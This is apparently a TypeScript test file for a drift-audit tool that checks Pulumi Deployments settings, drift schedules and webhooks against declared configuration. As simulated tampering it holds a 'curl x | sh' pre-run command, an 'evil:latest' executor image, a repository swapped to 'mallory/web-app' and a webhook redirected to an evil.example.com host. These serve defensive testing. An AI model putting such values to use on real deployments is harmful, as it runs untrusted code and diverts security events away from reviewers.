/** Drift cases of settings.ts, part 1 of 2. */
import { Mutable } from "../../../audit/harness";
import { DriftCase } from "../case";
import { deployment, settings, hook } from "./support";

export const CASES: DriftCase[] = [
  // Deployments settings.
  {
    what: "every widening setting changed on the protected stack: high each",
    edit: (w) =>
      Object.assign(settings(w, "production"), {
        branch: "refs/heads/dev",
        provider: "gitlab",
        repository: "mallory/web-app",
        deployCommits: false,
        previewPullRequests: true,
        pullRequestTemplate: true,
        deployTags: true,
        tagFilters: ["v*"],
        preRunCommands: ["curl x | sh"],
        executorImage: "evil:latest",
        agentPoolID: "pool-1",
      }),
    want: [
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production agentPoolID",
        message:
          'the Deployments setting agentPoolID of web/production is "pool-1", declared "": it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: "",
        live: "pool-1",
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production executorContext.executorImage",
        message:
          'the Deployments setting executorContext.executorImage of web/production is "evil:latest", declared "": it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: "",
        live: "evil:latest",
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production operationContext.preRunCommands",
        message:
          'the Deployments setting operationContext.preRunCommands of web/production is ["curl x | sh"], declared []: it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: [],
        live: ["curl x | sh"],
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production sourceContext.git.branch",
        message:
          'the Deployments setting sourceContext.git.branch of web/production is "refs/heads/dev", declared "refs/heads/main": it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: "refs/heads/main",
        live: "refs/heads/dev",
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.deployTags",
        message:
          "the Deployments setting vcs.deployTags of web/production is true, declared false: it lets a deployment of this protected stack run from outside the reviewed branch and code",
        declared: false,
        live: true,
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.previewPullRequests",
        message:
          "the Deployments setting vcs.previewPullRequests of web/production is true, declared false: it lets a deployment of this protected stack run from outside the reviewed branch and code",
        declared: false,
        live: true,
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.provider",
        message:
          'the Deployments setting vcs.provider of web/production is "gitlab", declared "github": it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: "github",
        live: "gitlab",
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.pullRequestTemplate",
        message:
          "the Deployments setting vcs.pullRequestTemplate of web/production is true, declared false: it lets a deployment of this protected stack run from outside the reviewed branch and code",
        declared: false,
        live: true,
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.repository",
        message:
          'the Deployments setting vcs.repository of web/production is "mallory/web-app", declared "acme/web-app": it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: "acme/web-app",
        live: "mallory/web-app",
      },
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.tagFilters",
        message:
          'the Deployments setting vcs.tagFilters of web/production is ["v*"], declared []: it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: [],
        live: ["v*"],
      },
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.deployCommits",
        message:
          "the Deployments setting vcs.deployCommits of web/production is false, declared true",
        declared: true,
        live: false,
      },
    ],
  },
  {
    what: "the settings that do not widen changed on the protected stack: medium",
    edit: (w) => Object.assign(settings(w, "production"), { repoDir: "other", paths: ["**"] }),
    want: [
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:web/production sourceContext.git.repoDir",
        message:
          'the Deployments setting sourceContext.git.repoDir of web/production is "other", declared "deploy"',
        declared: "deploy",
        live: "other",
      },
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.paths",
        message:
          'the Deployments setting vcs.paths of web/production is ["**"], declared ["deploy/**"]',
        declared: ["deploy/**"],
        live: ["**"],
      },
    ],
  },
  {
    what: "repoDir and optional fields unset, and the repository in other case: as declared but repoDir",
    edit: (w) => {
      const s = settings(w, "production");
      delete s.repoDir;
      s.repository = "ACME/Web-App";
      s.paths = [...s.paths].reverse();
    },
    want: [
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:web/production sourceContext.git.repoDir",
        message:
          'the Deployments setting sourceContext.git.repoDir of web/production is "", declared "deploy"',
        declared: "deploy",
        live: "",
      },
    ],
  },
  {
    what: "no repository in the live settings",
    edit: (w) => delete settings(w, "production").repository,
    want: [
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:web/production vcs.repository",
        message:
          'the Deployments setting vcs.repository of web/production is undefined, declared "acme/web-app": it lets a deployment of this protected stack run from outside the reviewed branch and code',
        declared: "acme/web-app",
      },
    ],
  },
  {
    what: "a widening setting changed on an unprotected stack: medium",
    edit: (w) => (settings(w, "staging").branch = "refs/heads/dev"),
    want: [
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:web/staging sourceContext.git.branch",
        message:
          'the Deployments setting sourceContext.git.branch of web/staging is "refs/heads/dev", declared "refs/heads/main"',
        declared: "refs/heads/main",
        live: "refs/heads/dev",
      },
    ],
  },
  {
    what: "deployCommits that is not the boolean true reads as off",
    edit: (w) => (settings(w, "staging").deployCommits = "yes"),
    want: [
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:web/staging vcs.deployCommits",
        message: "the Deployments setting vcs.deployCommits of web/staging is false, declared true",
        declared: true,
        live: false,
      },
    ],
  },
  {
    what: "deployment settings missing on a stack that deploys with Deployments",
    edit: (w) => delete deployment(w, "web", "production").settings,
    want: [
      {
        severity: "medium",
        code: "deployment-settings-missing",
        subject: "stack:web/production",
        message:
          "stack web/production deploys with Pulumi Deployments but has no deployment settings: run the bootstrap (pulumi up) to restore them",
      },
    ],
  },
  {
    what: "deployment settings on a protected stack that deploys from its pipeline: high",
    edit: (w) =>
      (deployment(w, "payments", "prod").settings = { branch: "refs/heads/x", paths: [] }),
    want: [
      {
        severity: "high",
        code: "deployment-settings-changed",
        subject: "stack:payments/prod",
        message:
          "stack payments/prod has Pulumi Deployments settings, but the config deploys it only from its pipeline (protected tier): anyone who can start a deployment runs it from ?@refs/heads/x. Delete the settings",
        declared: null,
        live: { branch: "refs/heads/x", paths: [] },
      },
    ],
  },
  {
    what: "deployment settings on an unprotected stack deployed without Deployments: medium",
    edit: (w) =>
      (deployment(w, "payments", "dev").settings = {
        repository: "acme/payments-infra",
        branch: "refs/heads/main",
        paths: [],
      }),
    want: [
      {
        severity: "medium",
        code: "deployment-settings-changed",
        subject: "stack:payments/dev",
        message:
          "stack payments/dev has Pulumi Deployments settings, but the config deploys it without Deployments: anyone who can start a deployment runs it from acme/payments-infra@refs/heads/main. Delete the settings",
        declared: null,
        live: { repository: "acme/payments-infra", branch: "refs/heads/main", paths: [] },
      },
    ],
  },
  {
    what: "a stack whose deployment settings were not read is not compared",
    edit: (w) => (w.deployments = w.deployments.filter((d: Mutable) => d.stack !== "production")),
    want: [],
  },
  // Drift schedules.
  {
    what: "the drift schedule missing",
    edit: (w) => (deployment(w, "web", "production").driftSchedules = []),
    want: [
      {
        severity: "medium",
        code: "drift-schedule-missing",
        subject: "stack:web/production drift",
        message:
          "stack web/production has no drift schedule (declared 0 */6 * * *): drift goes unnoticed",
        declared: "0 */6 * * *",
      },
    ],
  },
  {
    what: "the drift schedule paused, on another cron, remediating",
    edit: (w) =>
      Object.assign(deployment(w, "web", "production").driftSchedules[0], {
        paused: true,
        cron: "0 0 * * 0",
        autoRemediate: true,
      }),
    want: [
      {
        severity: "medium",
        code: "drift-schedule-changed",
        subject: "stack:web/production drift autoRemediate",
        message: "the drift schedule of web/production: autoRemediate is true, declared false",
        declared: false,
        live: true,
      },
      {
        severity: "medium",
        code: "drift-schedule-changed",
        subject: "stack:web/production drift paused",
        message: "the drift schedule of web/production: paused is true, declared false",
        declared: false,
        live: true,
      },
      {
        severity: "medium",
        code: "drift-schedule-changed",
        subject: "stack:web/production drift scheduleCron",
        message:
          'the drift schedule of web/production: scheduleCron is "0 0 * * 0", declared "0 */6 * * *"',
        declared: "0 */6 * * *",
        live: "0 0 * * 0",
      },
    ],
  },
  {
    what: "a paused schedule beside the declared active one: the active one is compared",
    edit: (w) =>
      deployment(w, "web", "production").driftSchedules.unshift({
        id: "d-2",
        cron: "0 0 * * 0",
        autoRemediate: true,
        paused: true,
      }),
    want: [],
  },
  {
    what: "two active schedules: the one on the declared cron is compared",
    edit: (w) =>
      deployment(w, "web", "production").driftSchedules.unshift({
        id: "d-2",
        cron: "0 0 * * 0",
        autoRemediate: false,
        paused: false,
      }),
    want: [],
  },
  // Webhooks.
  {
    what: "the organization webhook deleted",
    edit: (w) => (w.webhooks = w.webhooks.filter((h: Mutable) => h.name !== "hook0")),
    want: [
      {
        severity: "medium",
        code: "webhook-missing",
        subject: "webhook:org secure-org security",
        message:
          'the declared webhook "secure-org security" (org) does not exist: the reviewers no longer get its events (a detective control lost). Run the bootstrap (pulumi up) to restore it',
        declared: { url: "https://hooks.example.com/pulumi", active: true },
      },
    ],
  },
  {
    what: "a webhook pointed elsewhere, disabled, in another format, unsigned",
    edit: (w) =>
      Object.assign(hook(w, "hook1"), {
        payloadUrl: "https://evil.example.com",
        active: false,
        format: "slack",
        hasSecret: false,
      }),
    want: [
      {
        severity: "medium",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod active",
        message:
          'webhook "secure-org prod-failures payments/prod": active is false, declared true: disabled; the reviewers no longer get the events it should deliver (a detective control lost)',
        declared: true,
        live: false,
      },
      {
        severity: "medium",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod format",
        message:
          'webhook "secure-org prod-failures payments/prod": format is "slack", declared "raw": the receiver may not parse it; the reviewers no longer get the events it should deliver (a detective control lost)',
        declared: "raw",
        live: "slack",
      },
      {
        severity: "medium",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod payloadUrl",
        message:
          'webhook "secure-org prod-failures payments/prod": payloadUrl is "https://evil.example.com", declared "https://siem.example.com/pulumi/prod": events go to another receiver; the reviewers no longer get the events it should deliver (a detective control lost)',
        declared: "https://siem.example.com/pulumi/prod",
        live: "https://evil.example.com",
      },
      {
        severity: "medium",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod secret",
        message:
          'webhook "secure-org prod-failures payments/prod": secret is "none", declared "set": deliveries are unsigned, so the receiver cannot tell them from forged ones',
        declared: "set",
        live: "none",
      },
    ],
  },
  {
    what: "a webhook with fewer filters: narrower",
    edit: (w) => hook(w, "hook1").filters.pop(),
    want: [
      {
        severity: "medium",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod events",
        message:
          'webhook "secure-org prod-failures payments/prod": events is {"filters":["deployment_failed","drift_detected","update_failed"],"groups":[]}, declared {"filters":["deployment_failed","drift_detected","drift_detection_failed","update_failed"],"groups":[]}: fewer events are delivered; the reviewers no longer get the events it should deliver (a detective control lost)',
        declared: {
          filters: [
            "deployment_failed",
            "drift_detected",
            "drift_detection_failed",
            "update_failed",
          ],
          groups: [],
        },
        live: { filters: ["deployment_failed", "drift_detected", "update_failed"], groups: [] },
      },
    ],
  },
  {
    what: "a webhook with one more filter: wider",
    edit: (w) => hook(w, "hook1").filters.push("update_succeeded"),
    want: [
      {
        severity: "low",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod events",
        message:
          'webhook "secure-org prod-failures payments/prod": events is {"filters":["deployment_failed","drift_detected","drift_detection_failed","update_failed","update_succeeded"],"groups":[]}, declared {"filters":["deployment_failed","drift_detected","drift_detection_failed","update_failed"],"groups":[]}: more events than declared',
        declared: {
          filters: [
            "deployment_failed",
            "drift_detected",
            "drift_detection_failed",
            "update_failed",
          ],
          groups: [],
        },
        live: {
          filters: [
            "deployment_failed",
            "drift_detected",
            "drift_detection_failed",
            "update_failed",
            "update_succeeded",
          ],
          groups: [],
        },
      },
    ],
  },
  {
    what: "a webhook with no filters and no groups: every event, wider",
    edit: (w) => (hook(w, "hook1").filters = []),
    want: [
      {
        severity: "low",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod events",
        message:
          'webhook "secure-org prod-failures payments/prod": events is {"filters":[],"groups":[]}, declared {"filters":["deployment_failed","drift_detected","drift_detection_failed","update_failed"],"groups":[]}: more events than declared',
        declared: {
          filters: [
            "deployment_failed",
            "drift_detected",
            "drift_detection_failed",
            "update_failed",
          ],
          groups: [],
        },
        live: { filters: [], groups: [] },
      },
    ],
  },
  {
    what: "a filtered webhook given groups instead: narrower (fail closed)",
    edit: (w) => {
      hook(w, "hook1").filters = [];
      hook(w, "hook1").groups = ["stacks"];
    },
    want: [
      {
        severity: "medium",
        code: "webhook-changed",
        subject: "webhook:stack:payments/prod secure-org prod-failures payments/prod events",
        message:
          'webhook "secure-org prod-failures payments/prod": events is {"filters":[],"groups":["stacks"]}, declared {"filters":["deployment_failed","drift_detected","drift_detection_failed","update_failed"],"groups":[]}: fewer events are delivered; the reviewers no longer get the events it should deliver (a detective control lost)',
        declared: {
          filters: [
            "deployment_failed",
            "drift_detected",
            "drift_detection_failed",
            "update_failed",
          ],
          groups: [],
        },
        live: { filters: [], groups: ["stacks"] },
      },
    ],
  },
];
